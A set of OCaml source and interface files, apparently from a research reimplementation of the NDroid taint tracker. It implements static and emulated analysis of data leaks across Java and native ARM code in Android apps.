  v_xir_nodes : int;
  v_xir_edges : int;
}

let unions = List.fold_left T.union T.clear

(* FindClass takes "com/example/Leak"; the class table keys are
   "Lcom/example/Leak;" *)
let normalize_class_sig cls =
  if String.length cls > 0 && cls.[0] = 'L' then cls else "L" ^ cls ^ ";"

let source_tag cls m =
  List.find_map
    (fun (c, n, tag) -> if c = cls && n = m then Some tag else None)
    Sources.source_catalog

let is_sink cls m = List.exists (fun (c, n) -> c = cls && n = m) Sinks.sink_catalog

let max_rounds = 8

let analyze ?classification input =
  let cg = Callgraph.build input.in_classes in
  let libs =
    List.map (fun (n, p) -> Native_flow.make_lib ~name:n p) input.in_libs
  in
  let flows = Hashtbl.create 16 in
  let record f = Hashtbl.replace flows (Flow.key f) f in
  (* native symbol -> (lib, entry address) *)
  let bind_native sym =
    List.find_map
      (fun (lib : Native_flow.lib) ->
        Option.map (fun a -> (lib, a)) (Native_cfg.symbol_addr lib.Native_flow.nf_cfg sym))
      libs
  in
  (* facts for the cross-language IR: which exported native function a
     crossing entered through, what it upcalled, where it leaked *)
  let facts = Xir_build.facts_create () in
  let nat_stack : (string * string) list ref = ref [] in
  let record f =
    (match (f.Flow.f_context, !nat_stack) with
     | Flow.Native_ctx, (lib, entry) :: _ ->
       Xir_build.record_native_sink facts ~lib ~entry ~sym:f.Flow.f_site
         ~sink:f.Flow.f_sink
     | _ -> ());
    record f
  in
  (* the two boundary edges are mutually recursive: Java methods call
     native entries, native code upcalls Java methods *)
  let dex_ctx = ref None in
  let rec native_call (def : Classes.method_def) argts ~ctrl =
    match def.Classes.m_body with
    | Classes.Native sym -> (
      match bind_native sym with
      | None ->
        (* unbound native method: assume it can return its arguments *)
        T.union (unions argts) ctrl
      | Some (lib, addr) ->
        let params, this_t =
          if def.Classes.m_static then (argts, T.clear)
          else
            match argts with [] -> ([], T.clear) | this :: rest -> (rest, this)
        in
        let nth i = match List.nth_opt params i with Some t -> t | None -> T.clear in
        let stack_ts =
          if List.length params > 2 then
            unions (List.filteri (fun i _ -> i >= 2) params)
          else T.clear
        in
        let j t = T.union t ctrl in
        nat_stack := (lib.Native_flow.nf_name, sym) :: !nat_stack;
        let r =
          Native_flow.analyze_entry env lib ~entry:addr
            ~args:[ T.clear; j this_t; j (nth 0); j (nth 1) ]
            ~stack:(j stack_ts)
        in
        nat_stack := List.tl !nat_stack;
        r)
    | _ -> T.union (unions argts) ctrl
  and upcall cls m argts =
    let cls = normalize_class_sig cls in
    let in_native f =
      match !nat_stack with (lib, entry) :: _ -> f ~lib ~entry | [] -> ()
    in
    match source_tag cls m with
    | Some tag ->
      in_native (fun ~lib ~entry ->
          Xir_build.record_upcall_source facts ~lib ~entry ~cls ~m);
      tag
    | None ->
      if is_sink cls m then begin
        in_native (fun ~lib ~entry ->
            Xir_build.record_upcall_sink facts ~lib ~entry
              ~sink:(Dex_flow.short_sink_name cls m)
              ~site:(cls ^ "->" ^ m ^ " (upcall)"));
        let leak = unions argts in
        if T.is_tainted leak then
          record
            { Flow.f_taint = leak; f_sink = Dex_flow.short_sink_name cls m;
              f_context = Flow.Java_ctx; f_site = cls ^ "->" ^ m ^ " (upcall)";
              f_hops = [] };
        T.clear
      end
      else (
        match Callgraph.find_method cg (cls, m) with
        | Some callee -> (
          in_native (fun ~lib ~entry ->
              Xir_build.record_upcall facts ~lib ~entry ~cls ~m);
          match !dex_ctx with
          | Some ctx -> Dex_flow.analyze_method ctx callee argts
          | None -> unions argts)
        | None -> unions argts)
  and env =
    { Native_flow.e_resolve = input.in_resolve; e_upcall = upcall;
      e_record = record }
  in
  let ctx = Dex_flow.make ~cg ~record ~native_call in
  dex_ctx := Some ctx;
  (* root set: declared entries, else every app bytecode method *)
  let roots =
    match input.in_entries with
    | [] ->
      Hashtbl.fold
        (fun node (m : Classes.method_def) acc ->
          match m.Classes.m_body with
          | Classes.Bytecode _ -> node :: acc
          | _ -> acc)
        (Callgraph.methods cg) []
      |> List.sort compare
    | entries -> entries
  in
  let run_round () =
    Dex_flow.reset_memo ctx;
    (* library initialization runs first, as the loader would *)
    List.iter
      (fun (lib : Native_flow.lib) ->
        match Native_cfg.symbol_addr lib.Native_flow.nf_cfg "JNI_OnLoad" with
        | Some a ->
          ignore
            (Native_flow.analyze_entry env lib ~entry:a
               ~args:[ T.clear; T.clear; T.clear; T.clear ] ~stack:T.clear)
        | None -> ())
      libs;
    List.iter
      (fun node ->
        match Callgraph.find_method cg node with
        | Some def ->
          let nargs =
            match def.Classes.m_body with
            | Classes.Bytecode _ -> Classes.ins_count def
            | _ -> 0
          in
          ignore (Dex_flow.analyze_method ctx def (List.init nargs (fun _ -> T.clear)))
        | None -> ())
      roots
  in
  let rounds = ref 0 in
  let stable = ref false in
  while (not !stable) && !rounds < max_rounds do
    incr rounds;
    Dex_flow.clear_changed ctx;
    let mem_before =
      List.map (fun (l : Native_flow.lib) -> T.to_bits l.Native_flow.nf_mem) libs
    in
    run_round ();
    let mem_after =
      List.map (fun (l : Native_flow.lib) -> T.to_bits l.Native_flow.nf_mem) libs
    in
    stable := (not (Dex_flow.changed ctx)) && mem_before = mem_after
  done;
  let flow_list =
    Hashtbl.fold (fun _ f acc -> f :: acc) flows [] |> List.sort Flow.compare
  in
  (* lower both sides into the cross-language IR and slice it: the focus
     set is what a subsequent dynamic run must instrument, the hop chains
     become each static flow's provenance *)
  let xir =
    let bind sym =
      Option.map
        (fun ((l : Native_flow.lib), _) -> l.Native_flow.nf_name)
        (bind_native sym)
    in
    let lib_syms =
      List.map
        (fun (l : Native_flow.lib) ->
          ( l.Native_flow.nf_name,
            List.map fst (Native_cfg.symbols l.Native_flow.nf_cfg) ))
        libs
    in
    Xir_build.build ~cg ~bind ~libs:lib_syms ~facts
  in
  let slice = Slice.compute xir in
  let flow_list, covered = Slice.annotate slice flow_list in
  let focus =
    if flow_list = [] then Ndroid_report.Focus.empty
    else if covered then Slice.focus slice
    else Slice.full xir
  in
  { v_name = input.in_name;
    v_classification = classification;
    v_result = Ndroid_report.Verdict.normalize (Flagged flow_list);
    v_loads_library = Callgraph.calls_load cg || Dex_flow.loads_library ctx;
    v_jni_sites = Callgraph.jni_site_count cg;
    v_methods = Hashtbl.length (Callgraph.methods cg);
    v_native_insns =
      List.fold_left
        (fun acc (l : Native_flow.lib) ->
          acc + Native_cfg.insn_count l.Native_flow.nf_cfg)
        0 libs;
    v_rounds = !rounds;
    v_focus = focus;
    v_xir_nodes = Xir.node_count xir;
    v_xir_edges = Xir.edge_count xir }

let basename path =
  match String.rindex_opt path '/' with
  | Some i -> String.sub path (i + 1) (String.length path - i - 1)
  | None -> path

let analyze_apk (apk : Apk.t) =
  let classification = Apk.classify apk in
  let is_dex p =
    String.length p > 4 && String.sub p (String.length p - 4) 4 = ".dex"
  in
  let is_lib p = String.length p > 4 && String.sub p 0 4 = "lib/" in
  let classes =
    List.concat_map
      (fun (p, bytes) ->
        if is_dex p then try Dexfile.of_string bytes with Dexfile.Bad_dex _ -> []
        else [])
      apk.Apk.entries
  in
  let libs =
    List.filter_map
      (fun (p, bytes) ->
        if is_lib p then
          try Some (basename p, Sofile.of_string bytes)
          with Sofile.Bad_sofile _ -> None
        else None)
      apk.Apk.entries
  in
  analyze ~classification
    { in_name = apk.Apk.apk_package; in_classes = classes; in_libs = libs;
      in_entries = []; in_resolve = (fun _ -> None) }

let contains_substring hay needle =
  let nl = String.length needle and hl = String.length hay in
  if nl = 0 then true
  else begin
    let found = ref false in
    for i = 0 to hl - nl do
      if (not !found) && String.sub hay i nl = needle then found := true
    done;
    !found
  end

let flows v = Ndroid_report.Verdict.flows v.v_result
let flagged v = Ndroid_report.Verdict.flagged v.v_result

let flagged_at v needle =
  List.exists
    (fun (f : Flow.t) -> contains_substring f.Flow.f_sink needle)
    (flows v)
