(** One source→sink flow found statically.

    The type itself now lives in {!Ndroid_report.Flow} — the same record
    the dynamic path reports — so both analyses share one verdict variant
    and one JSON codec.  This module re-exports it under the static
    library's historical [Flow] name. *)

include module type of Ndroid_report.Flow
