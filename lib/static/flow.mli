(** A statically-discovered source→sink flow.

    The static pass reports the same shape of fact the dynamic sink
    monitors report — which taint reached which sink, and in which
    execution context — so the E3 cross-tabulation can compare verdicts
    one-to-one. *)

type context = Java_ctx | Native_ctx

type t = {
  f_taint : Ndroid_taint.Taint.t;  (** union of categories that can reach *)
  f_sink : string;  (** sink name, e.g. ["sendto"] or ["Socket.send"] *)
  f_context : context;
  f_site : string;  (** method or native symbol containing the sink call *)
}

val context_name : context -> string
val pp : Format.formatter -> t -> unit
val to_string : t -> string

val key : t -> string * string * string * int
(** Dedup key: (sink, context, site, taint bits). *)
