module Asm = Ndroid_arm.Asm
module Cpu = Ndroid_arm.Cpu
module Insn = Ndroid_arm.Insn
module Disasm = Ndroid_arm.Disasm

type t = {
  n_name : string;
  n_mode : Cpu.mode;
  n_base : int;
  n_size : int;
  n_code : Bytes.t;
  n_insns : (int, Insn.t * int) Hashtbl.t;
  n_symbols : (string * int) list;
  n_sym_at : (int, string) Hashtbl.t;
}

let clear_thumb_bit a = a land lnot 1

let of_program ~name prog =
  let insns = Hashtbl.create 256 in
  List.iter
    (fun (l : Disasm.line) ->
      match l.Disasm.l_insn with
      | Some insn -> Hashtbl.replace insns l.Disasm.l_addr (insn, l.Disasm.l_size)
      | None -> ())
    (Disasm.program prog);
  let sym_at = Hashtbl.create 16 in
  List.iter
    (fun (n, a) ->
      let a = clear_thumb_bit a in
      if not (Hashtbl.mem sym_at a) then Hashtbl.add sym_at a n)
    (Asm.symbols prog);
  { n_name = name; n_mode = Asm.mode prog; n_base = Asm.base prog;
    n_size = Asm.size prog; n_code = Asm.code prog; n_insns = insns;
    n_symbols = Asm.symbols prog; n_sym_at = sym_at }

let name t = t.n_name
let mode t = t.n_mode
let base t = t.n_base
let size t = t.n_size
let insn_count t = Hashtbl.length t.n_insns
let insn_at t addr = Hashtbl.find_opt t.n_insns (clear_thumb_bit addr)

let contains t addr =
  let a = clear_thumb_bit addr in
  a >= t.n_base && a < t.n_base + t.n_size

let symbols t = t.n_symbols

let symbol_addr t name =
  List.find_map (fun (n, a) -> if n = name then Some a else None) t.n_symbols

let symbol_at t addr = Hashtbl.find_opt t.n_sym_at (clear_thumb_bit addr)

let enclosing_symbol t addr =
  let a = clear_thumb_bit addr in
  List.fold_left
    (fun best (n, sa) ->
      let sa = clear_thumb_bit sa in
      if sa <= a then
        match best with
        | Some (_, ba) when ba >= sa -> best
        | _ -> Some (n, sa)
      else best)
    None t.n_symbols
  |> Option.map fst

(* data reads: no thumb-bit games — string bytes live at odd addresses too *)
let byte_at t addr =
  if addr >= t.n_base && addr < t.n_base + t.n_size then
    Some (Char.code (Bytes.get t.n_code (addr - t.n_base)))
  else None

let cstring_at t addr =
  let buf = Buffer.create 16 in
  let rec go a =
    match byte_at t a with
    | Some 0 -> Some (Buffer.contents buf)
    | Some c when c >= 32 && c < 127 && Buffer.length buf < 256 ->
      Buffer.add_char buf (Char.chr c);
      go (a + 1)
    | _ -> None
  in
  go addr

let branch_target t ~addr ~size:_ ~offset =
  match t.n_mode with
  | Cpu.Arm -> addr + 8 + (offset * 4)
  | Cpu.Thumb -> addr + 4 + (offset * 2)

(* ---- block recovery: leaders are symbols and branch targets ---- *)

let is_block_end = function
  | Insn.B _ -> true
  | Insn.Bx { link = false; _ } -> true
  | Insn.Block { load = true; regs; _ } -> regs land (1 lsl 15) <> 0
  | _ -> false

let basic_blocks t =
  let leaders = Hashtbl.create 32 in
  Hashtbl.iter (fun a _ -> Hashtbl.replace leaders a ()) t.n_sym_at;
  Hashtbl.iter
    (fun addr (insn, size) ->
      match insn with
      | Insn.B { offset; _ } ->
        let target = branch_target t ~addr ~size ~offset in
        if contains t target then Hashtbl.replace leaders target ();
        if is_block_end insn && Hashtbl.mem t.n_insns (addr + size) then
          Hashtbl.replace leaders (addr + size) ()
      | Insn.Bx { link = false; _ } | Insn.Block { load = true; _ } ->
        if is_block_end insn && Hashtbl.mem t.n_insns (addr + size) then
          Hashtbl.replace leaders (addr + size) ()
      | _ -> ())
    t.n_insns;
  let sorted =
    List.sort compare (Hashtbl.fold (fun a () acc -> a :: acc) leaders [])
  in
  let rec block_extent addr =
    match Hashtbl.find_opt t.n_insns addr with
    | None -> (addr, [])
    | Some (insn, size) ->
      let next = addr + size in
      let succ_of_branch () =
        match insn with
        | Insn.B { cond; link; offset } ->
          let tgt = branch_target t ~addr ~size ~offset in
          let fall =
            if cond <> Insn.AL || link then
              if Hashtbl.mem t.n_insns next then [ next ] else []
            else []
          in
          (if contains t tgt then [ tgt ] else []) @ fall
        | Insn.Bx { link = true; _ } ->
          if Hashtbl.mem t.n_insns next then [ next ] else []
        | _ -> []
      in
      if is_block_end insn then (next, succ_of_branch ())
      else if Hashtbl.mem leaders next then
        (next, if Hashtbl.mem t.n_insns next then [ next ] else [])
      else block_extent next
  in
  List.filter_map
    (fun start ->
      if Hashtbl.mem t.n_insns start then
        let stop, succs = block_extent start in
        Some (start, stop, List.sort_uniq compare succs)
      else None)
    sorted
