module B = Ndroid_dalvik.Bytecode
module Classes = Ndroid_dalvik.Classes
module IntSet = Set.Make (Int)

(* the interpreter's result register (filled by Invoke, read by
   Move_result) is modeled as pseudo-register -1 *)
let result_reg = -1

type t = {
  c_code : B.t array;
  c_succs : int list array;
  c_handler_succs : int list array;
  c_blocks : (int * int) list;
  c_block_succs : (int, int list) Hashtbl.t;
  c_reach : IntSet.t array array;  (* pc -> reg-slot -> def sites *)
  c_nregs : int;  (* register slots incl. the result pseudo-register *)
}

let code t = t.c_code
let succs t pc = if pc >= 0 && pc < Array.length t.c_succs then t.c_succs.(pc) else []
let handler_succs t pc =
  if pc >= 0 && pc < Array.length t.c_handler_succs then t.c_handler_succs.(pc)
  else []

let defs = function
  | B.Nop | B.Return_void | B.Return _ | B.Goto _ | B.If _ | B.Ifz _
  | B.Throw _ | B.Packed_switch _ | B.Sparse_switch _ | B.Iput _ | B.Sput _
  | B.Aput _ -> []
  | B.Const (r, _) | B.Const_string (r, _) | B.Move (r, _)
  | B.Move_result r | B.Move_exception r | B.Unop (_, r, _)
  | B.New_instance (r, _) | B.New_array (r, _, _) | B.Array_length (r, _)
  | B.Aget (r, _, _) | B.Iget (r, _, _) | B.Sget (r, _)
  | B.Check_cast (r, _) | B.Instance_of (r, _, _)
  | B.Binop (_, r, _, _) | B.Binop_wide (_, r, _, _)
  | B.Binop_float (_, r, _, _) | B.Binop_double (_, r, _, _)
  | B.Binop_lit (_, r, _, _) | B.Cmp_long (r, _, _) -> [ r ]
  | B.Invoke _ -> [ result_reg ]

let uses = function
  | B.Nop | B.Const _ | B.Const_string _ | B.Return_void | B.Goto _
  | B.New_instance _ | B.Sget _ | B.Move_exception _ -> []
  | B.Move_result _ -> [ result_reg ]
  | B.Move (_, s) | B.Return s | B.Unop (_, _, s) | B.Array_length (_, s)
  | B.Ifz (_, s, _) | B.Throw s | B.Check_cast (s, _)
  | B.Instance_of (_, s, _) | B.New_array (_, s, _) | B.Binop_lit (_, _, s, _)
  | B.Iget (_, s, _) | B.Sput (s, _) -> [ s ]
  | B.Binop (_, _, a, b) | B.Binop_wide (_, _, a, b)
  | B.Binop_float (_, _, a, b) | B.Binop_double (_, _, a, b)
  | B.Cmp_long (_, a, b) | B.If (_, a, b, _) | B.Iput (a, b, _) -> [ a; b ]
  | B.Aget (_, arr, i) -> [ arr; i ]
  | B.Aput (v, arr, i) -> [ v; arr; i ]
  | B.Packed_switch (s, _, _) | B.Sparse_switch (s, _) -> [ s ]
  | B.Invoke (_, _, regs) -> regs

let insn_succs code pc =
  let n = Array.length code in
  let valid t = if t >= 0 && t < n then [ t ] else [] in
  let fall = valid (pc + 1) in
  let dedup l = List.sort_uniq compare l in
  match code.(pc) with
  | B.Return_void | B.Return _ | B.Throw _ -> []
  | B.Goto t -> valid t
  | B.If (_, _, _, t) | B.Ifz (_, _, t) -> dedup (valid t @ fall)
  | B.Packed_switch (_, _, targets) ->
    dedup (List.concat_map valid (Array.to_list targets) @ fall)
  | B.Sparse_switch (_, pairs) ->
    dedup (List.concat_map (fun (_, t) -> valid t) (Array.to_list pairs) @ fall)
  | _ -> fall

let slot_of_reg nregs r = if r = result_reg then nregs - 1 else r

let of_code ?(handlers = []) code =
  let n = Array.length code in
  let max_reg =
    Array.fold_left
      (fun acc insn ->
        List.fold_left max acc
          (List.filter (fun r -> r >= 0) (defs insn @ uses insn)))
      (-1) code
  in
  let nregs = max_reg + 2 (* + the result pseudo-register *) in
  let succs = Array.init n (fun pc -> insn_succs code pc) in
  let handler_succs =
    Array.init n (fun pc ->
        List.filter_map
          (fun (h : Classes.handler) ->
            if pc >= h.try_start && pc < h.try_end && h.handler_pc >= 0
               && h.handler_pc < n
            then Some h.handler_pc
            else None)
          handlers)
  in
  (* ---- basic blocks ---- *)
  let leader = Array.make (max n 1) false in
  if n > 0 then leader.(0) <- true;
  Array.iteri
    (fun pc ss ->
      let branches = match ss with [ t ] when t = pc + 1 -> false | _ -> true in
      if branches then begin
        List.iter (fun t -> leader.(t) <- true) ss;
        if pc + 1 < n then leader.(pc + 1) <- true
      end;
      List.iter (fun t -> leader.(t) <- true) handler_succs.(pc))
    succs;
  let blocks = ref [] in
  let start = ref 0 in
  for pc = 1 to n - 1 do
    if leader.(pc) then begin
      blocks := (!start, pc) :: !blocks;
      start := pc
    end
  done;
  if n > 0 then blocks := (!start, n) :: !blocks;
  let blocks = List.rev !blocks in
  let block_succs = Hashtbl.create 16 in
  let leader_of = Array.make (max n 1) 0 in
  List.iter
    (fun (s, e) -> for pc = s to e - 1 do leader_of.(pc) <- s done)
    blocks;
  List.iter
    (fun (s, e) ->
      let last = e - 1 in
      Hashtbl.replace block_succs s
        (List.sort_uniq compare (List.map (fun t -> leader_of.(t)) succs.(last))))
    blocks;
  (* ---- reaching definitions (instruction-level worklist) ---- *)
  let reach = Array.init (max n 1) (fun _ -> Array.make nregs IntSet.empty) in
  if n > 0 then
    for s = 0 to nregs - 1 do
      reach.(0).(s) <- IntSet.singleton (-1)
    done;
  let preds = Array.make n [] in
  Array.iteri
    (fun pc ss ->
      List.iter (fun t -> preds.(t) <- pc :: preds.(t)) (ss @ handler_succs.(pc)))
    succs;
  let out_of pc =
    let o = Array.copy reach.(pc) in
    List.iter
      (fun r -> o.(slot_of_reg nregs r) <- IntSet.singleton pc)
      (defs code.(pc));
    o
  in
  let changed = ref true in
  while !changed do
    changed := false;
    for pc = 0 to n - 1 do
      let in_ = reach.(pc) in
      List.iter
        (fun p ->
          let o = out_of p in
          for s = 0 to nregs - 1 do
            let u = IntSet.union in_.(s) o.(s) in
            if not (IntSet.equal u in_.(s)) then begin
              in_.(s) <- u;
              changed := true
            end
          done)
        preds.(pc)
    done
  done;
  { c_code = code; c_succs = succs;
    c_handler_succs = handler_succs; c_blocks = blocks; c_block_succs = block_succs;
    c_reach = reach; c_nregs = nregs }

let blocks t = t.c_blocks

let block_succs t start =
  match Hashtbl.find_opt t.c_block_succs start with Some l -> l | None -> []

let reaching_defs t pc reg =
  if pc < 0 || pc >= Array.length t.c_code then []
  else IntSet.elements t.c_reach.(pc).(slot_of_reg t.c_nregs reg)

let du_chains t =
  let acc = ref [] in
  Array.iteri
    (fun pc insn ->
      List.iter
        (fun r -> acc := (pc, r, reaching_defs t pc r) :: !acc)
        (uses insn))
    t.c_code;
  List.rev !acc
