(** Per-method control-flow graph over Dalvik bytecode, with def-use
    chains.

    Branch targets in {!Ndroid_dalvik.Bytecode} are instruction indexes, so
    the CFG works directly on indexes: basic blocks are maximal straight
    runs, instruction-level successors drive the flow-sensitive taint pass,
    and reaching definitions give each use site its def chain. *)

type t

val of_code :
  ?handlers:Ndroid_dalvik.Classes.handler list ->
  Ndroid_dalvik.Bytecode.t array -> t

val code : t -> Ndroid_dalvik.Bytecode.t array

val succs : t -> int -> int list
(** Normal (non-exceptional) successor indexes of instruction [pc];
    [[]] after returns/throws and for out-of-range targets. *)

val handler_succs : t -> int -> int list
(** Exception-handler entry points covering [pc]. *)

val blocks : t -> (int * int) list
(** Basic blocks as [(start, end_exclusive)] pairs, in address order. *)

val block_succs : t -> int -> int list
(** Successor block starts of the block starting at [start]. *)

val defs : Ndroid_dalvik.Bytecode.t -> int list
(** Registers written by one instruction ([-1] stands for the
    interpreter's result register filled by [Invoke]). *)

val uses : Ndroid_dalvik.Bytecode.t -> int list
(** Registers read by one instruction ([-1] stands for the result
    register read by [Move_result]). *)

val reaching_defs : t -> int -> int -> int list
(** [reaching_defs t pc reg]: indexes of definitions of [reg] that reach
    [pc] (entry definitions — parameters — appear as [-1]). *)

val du_chains : t -> (int * int * int list) list
(** Every (use_pc, reg, reaching def_pcs) triple in the method. *)
