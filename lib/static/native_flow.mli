(** Abstract interpretation of native code under Table V taint rules.

    The dynamic tracer applies Table V to concrete register values; this
    pass applies the same rules over an abstract state and *all* control
    paths at once:

    - registers carry a taint tag each, with block-local constant
      propagation just strong enough to resolve the assembler's
      load-immediate + [BLX reg] call idiom and
      [FindClass]/[GetStaticMethodID] string operands;
    - the library's writable memory is a single abstract cell [mem] that
      accumulates the taint of every store and feeds every load — a sound
      summary of the heap/stack that persists across JNI calls (so a
      string stored by one native call and fetched by another, the
      QQPhoneBook pattern, stays tainted);
    - every flag-setting instruction with tainted operands folds its taint
      into a control taint [ctrl] joined into all subsequent writes; this
      is the over-approximation of implicit flows that lets the static
      pass flag the Sec. VII control-flow-evasion app that the dynamic
      tracer misses by design;
    - calls resolving to the [*]-marked libc surface
      ({!Ndroid_android.Syscalls.sinks}) report a flow when the joined
      argument/memory/control taint is non-empty. *)

module Taint = Ndroid_taint.Taint

type lib = {
  nf_name : string;
  nf_cfg : Native_cfg.t;
  mutable nf_mem : Taint.t;
      (** abstract library memory, monotone across calls *)
  mutable nf_changed : bool;
      (** did [nf_mem] grow during the last entry analysis *)
}

val make_lib : name:string -> Ndroid_arm.Asm.program -> lib

type env = {
  e_resolve : int -> string option;
      (** host-function address → name (JNI surface, libc, libm) *)
  e_upcall : string -> string -> Taint.t list -> Taint.t;
      (** [Call*Method] back-edge into Java: class, method, argument
          taints → return taint (the supergraph's native→Java edge) *)
  e_record : Flow.t -> unit;  (** sink-flow callback *)
}

val analyze_entry :
  env -> lib -> entry:int -> args:Taint.t list -> stack:Taint.t -> Taint.t
(** Analyze one native entry point: [args] are the taints of [r0..r3] at
    entry, [stack] the joined taint of any parameters passed on the
    stack.  Returns the joined taint of [r0] over all exits, and updates
    [nf_mem] with everything the call could store. *)
