(** Sparse, page-granular guest memory.

    A single flat 32-bit little-endian address space shared by native code,
    native stack and heap, and mapped libraries.  Pages are allocated on
    first touch so mapping libraries at far-apart addresses (the memory-map
    layout NDroid's OS-level view reconstructor reports) costs nothing. *)

type t

val create : unit -> t

val read_u8 : t -> int -> int
val read_u16 : t -> int -> int
val read_u32 : t -> int -> int
val write_u8 : t -> int -> int -> unit
val write_u16 : t -> int -> int -> unit
val write_u32 : t -> int -> int -> unit

val read_bytes : t -> int -> int -> Bytes.t
(** [read_bytes m addr n] copies [n] bytes out of guest memory. *)

val write_bytes : t -> int -> Bytes.t -> unit
val write_string : t -> int -> string -> unit

val read_cstring : t -> ?max:int -> int -> string
(** [read_cstring m addr] reads a NUL-terminated string ([max] defaults to
    65536 bytes and bounds runaway reads). *)

val write_cstring : t -> int -> string -> unit
(** Write a string followed by a NUL byte. *)

val read_f32 : t -> int -> float
val read_f64 : t -> int -> float
val write_f32 : t -> int -> float -> unit
val write_f64 : t -> int -> float -> unit

val pages_touched : t -> int
(** Number of pages allocated so far (memory-map accounting). *)

val watch_code : t -> lo:int -> hi:int -> unit
(** Register [lo, hi] (inclusive) as translated/summarized code: any later
    guest write that overlaps a watched range bumps {!code_gen} and fires
    the {!on_code_write} callback.  The check costs two integer compares on
    the store fast path while no watch is registered. *)

val code_gen : t -> int
(** Generation counter bumped on every write into a watched code range.
    Cached translations record the generation they were made under and
    treat any later value as "my code may be stale". *)

val on_code_write : t -> (int -> unit) -> unit
(** Set the (single) code-write observer, called with the write's start
    address after {!code_gen} is bumped — the summary layer uses it to mark
    the owning library dirty. *)

val clear : t -> unit
