(* Direct-mapped decode cache: fetch address -> decoded instruction.

   Slots are indexed by the halfword-aligned fetch address, so consecutive
   ARM (4-byte) and Thumb (2-byte) instructions land in distinct slots and a
   lookup is two array reads — no hashing, no probing. *)

let slot_bits = 13
let slots = 1 lsl slot_bits

type t = {
  addrs : int array;  (* -1 = empty slot *)
  entries : (Insn.t * int) array;
  mutable hits : int;
  mutable misses : int;
}

let dummy_entry = (Insn.bx_lr, 4)

let create () =
  { addrs = Array.make slots (-1);
    entries = Array.make slots dummy_entry;
    hits = 0;
    misses = 0 }

let slot addr = (addr lsr 1) land (slots - 1)

let probe c addr =
  let i = slot addr in
  if c.addrs.(i) = addr then begin
    c.hits <- c.hits + 1;
    true
  end
  else begin
    c.misses <- c.misses + 1;
    false
  end

let cached c addr = c.entries.(slot addr)

let find c addr = if probe c addr then Some (cached c addr) else None

let store c addr entry =
  let i = slot addr in
  c.addrs.(i) <- addr;
  c.entries.(i) <- entry

let clear c =
  Array.fill c.addrs 0 slots (-1);
  c.hits <- 0;
  c.misses <- 0

let hits c = c.hits
let misses c = c.misses
