type line = {
  l_addr : int;
  l_raw : int;
  l_size : int;
  l_insn : Insn.t option;
  l_label : string option;
}

let range ?(mode = Cpu.Arm) ?(symbols = []) mem ~start ~size =
  (* index symbols once — a per-address List.find_opt makes the sweep
     O(n·m) on large libraries *)
  let index = Hashtbl.create (max 16 (List.length symbols)) in
  List.iter
    (fun (name, addr) ->
      if not (Hashtbl.mem index addr) then Hashtbl.add index addr name)
    symbols;
  let label_at addr = Hashtbl.find_opt index addr in
  let rec sweep acc addr =
    if addr >= start + size then List.rev acc
    else
      let line =
        match mode with
        | Cpu.Arm ->
          let raw = Memory.read_u32 mem addr in
          { l_addr = addr; l_raw = raw; l_size = 4; l_insn = Decode.decode raw;
            l_label = label_at addr }
        | Cpu.Thumb -> (
          let half = Memory.read_u16 mem addr in
          let next = Some (Memory.read_u16 mem (addr + 2)) in
          match Thumb.decode half next with
          | Some (insn, sz) ->
            let raw = if sz = 4 then (half lsl 16) lor Memory.read_u16 mem (addr + 2)
                      else half in
            { l_addr = addr; l_raw = raw; l_size = sz; l_insn = Some insn;
              l_label = label_at addr }
          | None ->
            { l_addr = addr; l_raw = half; l_size = 2; l_insn = None;
              l_label = label_at addr })
      in
      sweep (line :: acc) (addr + line.l_size)
  in
  sweep [] start

let program prog =
  let mem = Memory.create () in
  Asm.load prog mem;
  range ~mode:(Asm.mode prog) ~symbols:(Asm.symbols prog) mem
    ~start:(Asm.base prog) ~size:(Asm.size prog)

let pp_line ppf l =
  (match l.l_label with
   | Some name -> Format.fprintf ppf "@.%08x <%s>:@." l.l_addr name
   | None -> ());
  match l.l_insn with
  | Some insn ->
    Format.fprintf ppf "%08x:  %0*x    %a@." l.l_addr (l.l_size * 2) l.l_raw
      Insn.pp insn
  | None ->
    Format.fprintf ppf "%08x:  %0*x    .word (data)@." l.l_addr (l.l_size * 2)
      l.l_raw

let pp_listing ppf lines = List.iter (pp_line ppf) lines
