(** Hot-instruction decode cache.

    "To speed up the identification of the instruction type and the search of
    the handler, NDroid caches hot instructions and the corresponding
    handlers" (paper, Sec. V-C).  The cache maps a fetch address to the
    decoded instruction and its byte size, avoiding re-decoding in loops.
    It is direct-mapped over halfword-aligned addresses: a lookup is two
    array reads, and a conflicting address silently evicts the previous
    tenant.  Disable it to run ablation A1. *)

type t

val create : unit -> t
val find : t -> int -> (Insn.t * int) option
val store : t -> int -> Insn.t * int -> unit
val clear : t -> unit

val probe : t -> int -> bool
(** Counter-updating membership test.  The allocation-free hit path of the
    trace loop: on [true], read the entry with {!cached}. *)

val cached : t -> int -> Insn.t * int
(** The entry stored in [addr]'s slot — meaningful only immediately after
    {!probe} returned [true] for the same address. *)

val hits : t -> int
(** Lookup hits since creation (or the last {!clear}). *)

val misses : t -> int
