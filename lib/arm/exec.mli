(** Single-step instruction executor.

    Fetches at the CPU's PC (in the CPU's current instruction-set mode),
    decodes (through the optional hot-instruction cache), checks the
    condition, executes, and reports what happened.  Control transfers are
    reported so the emulator layer can drive hooks and host-function
    dispatch: "when processing a branch instruction, if the target method is
    in the list, NDroid will call its analysis functions" (paper,
    Sec. V-G). *)

exception Undefined of int * int
(** [Undefined (addr, word)]: fetched bits that the decoder rejects. *)

(** What one step did. *)
type step = {
  addr : int;  (** address the instruction was fetched from *)
  insn : Insn.t;
  size : int;  (** 2 or 4 bytes *)
  mode : Cpu.mode;  (** mode the instruction executed in *)
  executed : bool;  (** [false] when the condition failed *)
  branch : (int * int) option;
      (** [(from, to)] when control transferred anywhere but fall-through *)
  is_call : bool;  (** BL / BLX: a function call *)
  is_return : bool;  (** a recognised return idiom: BX lr, POP {..pc}, MOV pc *)
  svc : int option;  (** SVC immediate when a supervisor call was made *)
}

val fetch_decode : ?icache:Icache.t -> Cpu.t -> Memory.t -> int -> Insn.t * int
(** [fetch_decode cpu mem addr] decodes the instruction at [addr] in the
    CPU's current mode.  @raise Undefined on unsupported encodings. *)

val step : ?icache:Icache.t -> Cpu.t -> Memory.t -> step
(** Execute one instruction at the current PC.  Updates all CPU and memory
    state, including the PC (fall-through or branch target).
    @raise Undefined on unsupported encodings. *)

val step_decoded : Cpu.t -> Memory.t -> addr:int -> Insn.t -> int -> step
(** [step_decoded cpu mem ~addr insn size] executes [insn], already decoded
    from [addr] by {!fetch_decode}.  This is the trace loop's single-decode
    path: the machine decodes once, shows the instruction to its listeners,
    then executes the same decode result. *)

(** Mutable per-step result for the allocation-free execution path.
